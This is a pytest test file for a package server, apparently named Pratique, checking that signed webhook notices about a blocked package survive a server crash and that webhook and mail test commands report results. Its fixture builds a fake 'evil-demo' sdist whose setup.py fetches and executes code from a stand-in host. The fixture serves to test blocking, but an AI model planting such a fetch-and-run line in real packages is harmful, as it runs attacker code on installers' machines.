"""The server as its users run it: what it tells arrives, signed, also after it was killed in the middle."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from tests.support.distributions import make_sdist
from tests.support.server import environment, serving
from tests.support.upstream_server import LocalIndex
from tests.telling.mailbox import Mailbox
from tests.telling.receiver import Came, Receiver

_SECRET = "0123456789abcdef-of-the-test"
_EVIL = make_sdist(
    "evil-demo",
    "1.0",
    {
        "setup.py": "import os, urllib.request\nfrom setuptools import setup\n"
        "exec(urllib.request.urlopen('http://192.0.2.7/x').read())\nsetup()\n"
    },
)


def _signed(came: Came) -> bool:
    signed = f"{came.headers['webhook-id']}.{came.headers['webhook-timestamp']}.".encode() + came.body
    mac = base64.b64encode(hmac.new(_SECRET.encode(), signed, hashlib.sha256).digest()).decode()
    return hmac.compare_digest(came.headers["webhook-signature"], f"v1,{mac}")


def _notify(folder: Path, url: str) -> Path:
    (folder / "secret").write_text(f"{_SECRET}\n", encoding="utf-8")
    path = folder / "notify.toml"
    path.write_text(
        f'timeout = 2\n[[webhook]]\nname = "team"\nurl = "{url}"\nsecret-file = "{folder / "secret"}"\n'
        f'[[webhook]]\nname = "chat"\nform = "slack"\nurl = "{url}/chat"\nevents = ["account-freeze"]\n',
        encoding="utf-8",
    )
    return path


def test_a_block_arrives_though_the_server_was_killed_in_the_middle(tmp_path: Path) -> None:
    """The receiver holds the first attempt; the server dies; the next one delivers under the same id, and once."""
    behind, receiver = LocalIndex(), Receiver(hold=threading.Event())
    behind.add(_EVIL)
    with behind.serving_in_thread() as upstream, receiver.listening() as url:
        notify = _notify(tmp_path, url)
        with serving(tmp_path / "data", upstream, "--notify", str(notify)) as server:
            assert server.get(f"/files/evil-demo/{_EVIL.filename}").status == 403
            receiver.await_letters(1)
            server.kill()
        assert receiver.hold
        receiver.hold.set()
        with serving(tmp_path / "data", upstream, "--notify", str(notify)) as server:
            first, second = receiver.await_letters(2)[:2]
            assert server.get(f"/files/evil-demo/{_EVIL.filename}").status == 403
            assert b"pratique_notices_dead 0.0" in (server.get("/metrics").body or b"")
        assert _SECRET not in "".join(server.said)
    assert len(receiver.came) == 2
    assert first.headers["webhook-id"] == second.headers["webhook-id"]
    assert (_signed(first), _signed(second)) == (True, True)
    told = json.loads(second.body)
    assert (told["type"], told["data"]["filename"], told["data"]["sha256"]) == ("block", _EVIL.filename, _EVIL.sha256)
    assert told["data"]["verdict"] == "malicious"


def test_mail_is_tried_by_a_command(tmp_path: Path) -> None:
    """Its sender gets a test; what is wrong with the server is said, and ends the command with 1."""
    mailbox, notify = Mailbox(), tmp_path / "notify.toml"
    command = [sys.executable, "-m", "pratique", "webhook", "test", "--notify", str(notify)]

    def tried() -> tuple[int, str]:
        done = subprocess.run(command, env={**os.environ, **environment()}, capture_output=True, text=True, check=False)
        return done.returncode, done.stdout

    with mailbox.listening() as port:
        text = (
            f'[mail]\nserver = "127.0.0.1"\nport = {port}\nsecurity = "none"\nfrom = "Pratique <p@example.invalid>"\n'
        )
        notify.write_text(text, encoding="utf-8")
        assert tried() == (0, "mail: arrived\n")
    ((address, letter),) = mailbox.came
    assert (address, letter["Subject"]) == (
        "p@example.invalid",
        "Pratique: This is a test: notices of Pratique arrive here",
    )
    status, said = tried()
    assert (status, "ConnectionRefusedError" in said) == (1, True)


@pytest.mark.parametrize(("answers", "status"), [([], 0), ([500, 500], 1)])
def test_webhooks_are_tried_by_a_command(tmp_path: Path, answers: list[int], status: int) -> None:
    """Each gets a test at once, and what it answered is said; the secret is not."""
    receiver = Receiver(answers=answers)
    with receiver.listening() as url:
        command = [sys.executable, "-m", "pratique", "webhook", "test", "--notify", str(_notify(tmp_path, url))]
        done = subprocess.run(command, env={**os.environ, **environment()}, capture_output=True, text=True, check=False)
    said = "arrived" if not status else "answered 500"
    assert (done.returncode, done.stdout) == (status, f"team: {said}\nchat: {said}\n"), done.stderr
    team, chat = receiver.came
    assert (_signed(team), json.loads(team.body)["type"]) == (True, "test")
    assert "This is a test" in json.loads(chat.body)["text"]
    assert (team.path, chat.path) == ("/hook", "/hook/chat")
